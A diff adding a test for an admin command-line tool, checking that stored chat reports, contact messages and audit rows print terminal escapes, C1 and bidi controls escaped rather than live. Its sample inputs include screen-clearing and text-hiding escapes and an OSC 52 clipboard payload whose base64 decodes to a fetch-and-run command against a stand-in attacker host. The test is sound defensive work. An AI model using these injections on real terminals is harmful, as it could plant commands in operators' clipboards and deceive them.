@@ -166,6 +166,81 @@ describe(`operator commands on ${testEngine}`, () => {
     await expect(admin("hide", "99999")).rejects.toThrow(/no bottle 99999/);
   });
 
+  test("stored text reaches the terminal unable to steer it: escapes, bells, C1 and bidi shown, not obeyed", async () => {
+    // Tried as an attacker would: a reported chat message that clears the screen and writes the
+    // clipboard (OSC 52), a contact message that hides text, an audit row turned around.
+    const clear = "\u001b[2J\u001b[H";
+    const clipboard = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
+    const database = openDatabase(config.database);
+    try {
+      const { db } = database;
+      await db
+        .insertInto("chat_reports")
+        .values({
+          reported_visitor_id: "steer\u001b[8m00000000000A",
+          reported_ip_key: "iphash\u009b2J",
+          reporter_visitor_id: "r2",
+          message_id: "m-steer",
+          message_content: `hello${clear}${clipboard}\u202egnirts`,
+          reason: "harassment",
+          is_safe: 1,
+          created_at: now + 2,
+        })
+        .execute();
+      await db
+        .insertInto("contact_messages")
+        .values({
+          name: "Eve\u001b[8m\nforged line",
+          email: "eve@example.org\u0007",
+          message: `hidden${clear}\u2066text\u2069\u200f\u007f\r`,
+          locale: "en\u001b[0m",
+          created_at: now + 2,
+        })
+        .execute();
+      await db
+        .insertInto("moderation_actions")
+        .values({
+          operator: "mallory\u202e",
+          action: "hide",
+          subject: `bottle:1${clipboard}`,
+          details: "{}",
+          created_at: now + 2,
+        })
+        .execute();
+    } finally {
+      await database.close();
+    }
+    // Any C0 but newline and tab, DEL, C1, or a bidi control, in what was printed.
+    const steering = (text: string) =>
+      [...text].filter((c) => {
+        const n = c.codePointAt(0) ?? 0;
+        return (
+          (n < 0x20 && c !== "\n" && c !== "\t") ||
+          (n >= 0x7f && n <= 0x9f) ||
+          [0x61c, 0x200e, 0x200f].includes(n) ||
+          (n >= 0x202a && n <= 0x202e) ||
+          (n >= 0x2066 && n <= 0x2069)
+        );
+      });
+    for (const command of ["reports", "contact", "audit"]) {
+      const out = await admin(command, ...(command === "audit" ? ["--since", "2026-01-01"] : []));
+      expect(steering(out)).toEqual([]);
+      expect(out).toContain("\\x1b");
+    }
+    const reports = await admin("reports");
+    expect(reports).toContain("visitor:steer\\x1b[8m00000000000A ip:iphash\\x9b2J");
+    expect(reports).toContain(
+      "hello\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202egnirts",
+    );
+    // A newline in a stored name cannot make a line of its own.
+    const contact = await admin("contact");
+    expect(contact).toContain("Eve\\x1b[8m\\nforged line <eve@example.org\\x07> (en\\x1b[0m)");
+    expect(contact).toContain("hidden\\x1b[2J\\x1b[H\\u2066text\\u2069\\u200f\\x7f");
+    expect(await admin("audit", "--since", "2026-01-01")).toContain(
+      "mallory\\u202e  hide  bottle:1\\x1b]52;",
+    );
+  });
+
   test(
     testEngine === "postgres"
       ? "backup on PostgreSQL explains pg_dump and writes nothing"
